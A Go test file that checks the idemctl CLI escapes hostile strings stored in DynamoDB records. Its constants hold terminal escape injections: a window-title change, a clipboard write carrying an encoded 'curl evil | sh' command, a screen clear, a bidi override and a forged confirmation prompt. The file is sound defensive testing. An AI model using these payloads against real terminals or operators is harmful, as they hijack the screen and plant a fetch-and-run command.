package main

import (
	"context"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/idemkit/idem/idemstore"
)

// Stored strings that would command the operator's terminal if printed raw.
const (
	titleChange = "\x1b]0;pwned\a"                        // OSC 0: set the window title
	clipboard   = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a"      // OSC 52: write the clipboard
	forgedLine  = "\r\nType yes to release this record: " // a line the operator would take for idemctl's
	c1CSI       = "\u009b2J"                              // C1 CSI: clear the screen
	bidi        = "\u202eredro"                           // right-to-left override
	hostile     = "shipped" + titleChange + clipboard + "\x7f" + c1CSI + bidi + forgedLine
)

// TestHostileRecordIsEscaped shows, lists, releases and fails on records whose stored
// strings (checkpoint, owner token, encoding, stored key) hold terminal escapes, a forged
// line, C1 controls and a bidi override: nothing idemctl prints holds a raw control byte.
func TestHostileRecordIsEscaped(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := newEnv(t)
	e.claim(t, "k", deadToken, e.now.Add(5*time.Minute), "")
	set := func(raw, attr, value string) {
		t.Helper()
		_, err := e.client.UpdateItem(ctx, &dynamodb.UpdateItemInput{
			TableName: aws.String(e.table), Key: map[string]types.AttributeValue{"id": &types.AttributeValueMemberS{Value: e.key(t, raw)}},
			UpdateExpression:          aws.String("SET #a = :v"),
			ExpressionAttributeNames:  map[string]string{"#a": attr},
			ExpressionAttributeValues: map[string]types.AttributeValue{":v": &types.AttributeValueMemberS{Value: value}},
		})
		require.NoError(t, err)
	}
	set("k", "checkpoint", hostile)
	set("k", "lease_token", "\x1b]0;x\a"+deadToken)
	e.complete(t, "done", map[string]string{"id": "o-1"})
	set("done", "enc", "json"+titleChange)
	// A record another writer left under a key no guard makes.
	badKey := testScope + "." + testOperation + "#" + titleChange + forgedLine
	_, err := e.client.PutItem(ctx, &dynamodb.PutItemInput{TableName: aws.String(e.table), Item: map[string]types.AttributeValue{
		"id":                     &types.AttributeValueMemberS{Value: badKey},
		"status":                 &types.AttributeValueMemberS{Value: string(idemstore.StatusInProgress)},
		"expiration":             &types.AttributeValueMemberN{Value: "4102444800"},
		"in_progress_expiration": &types.AttributeValueMemberN{Value: "4102444800000"},
		"lease_token":            &types.AttributeValueMemberS{Value: "t"},
		"checkpoint":             &types.AttributeValueMemberS{Value: clipboard},
		"v":                      &types.AttributeValueMemberN{Value: "1"},
	}})
	require.NoError(t, err)

	key := []string{"--scope", testScope, "--operation", testOperation, "--key"}
	tests := []struct {
		name  string
		stdin string
		args  []string
		want  []string // escaped forms the output shows
	}{
		{name: "show", args: append([]string{"show"}, append(key, "k")...),
			want: []string{`checkpoint   "shipped\x1b]0;pwned\a\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a\x7f\u009b2J\u202eredro\r\nType yes to release this record: "`,
				`owner token  "\x1b]0;x\ade"…`}},
		{name: "show json", args: append([]string{"show", "--json"}, append(key, "k")...),
			want: []string{`"checkpoint": "shipped\u001b]0;pwned\u0007`, `\u007f\u009b2J\u202eredro\r\nType yes`}},
		{name: "show encoding", args: append([]string{"show"}, append(key, "done")...),
			want: []string{`bytes, "json\x1b]0;pwned\a"`}},
		{name: "list", args: []string{"list"},
			want: []string{`"orders-api.create-order#\x1b]0;pwned\a\r\nType yes to release this record: "`, `"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a"`}},
		{name: "list json", args: []string{"list", "--json"},
			want: []string{`"stored_key": "orders-api.create-order#\u001b]0;pwned\u0007\r\nType yes`}},
		{name: "release, not confirmed", stdin: "no\n", args: append([]string{"release"}, append(key, "k")...),
			want: []string{`checkpoint   "shipped\x1b]0;pwned`, "not confirmed; nothing was written"}},
		{name: "release by stored key", stdin: "no\n", args: []string{"release", "--stored-key", badKey},
			want: []string{`stored key   "orders-api.create-order#\x1b]0;pwned\a\r\nType yes`}},
		{name: "no record", args: []string{"show", "--stored-key", badKey + "x"},
			want: []string{`no record under "orders-api.create-order#\x1b]0;pwned\a\r\nType yes to release this record: x"`}},
		{name: "bad flag", args: []string{"show", "--" + titleChange},
			want: []string{`-\x1b]0;pwned\a`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r := e.run(t, e.client, &typing{line: tc.stdin}, tc.stdin != "", tc.args...)
			out := r.stdout + r.stderr
			for i, c := range out {
				require.Truef(t, c == '\n' || (c != utf8.RuneError && unicode.IsPrint(c)),
					"raw %U at byte %d of the output:\n%s", c, i, strings.ToValidUTF8(out, "?"))
			}
			for _, s := range tc.want {
				assert.Contains(t, out, s)
			}
		})
	}
}
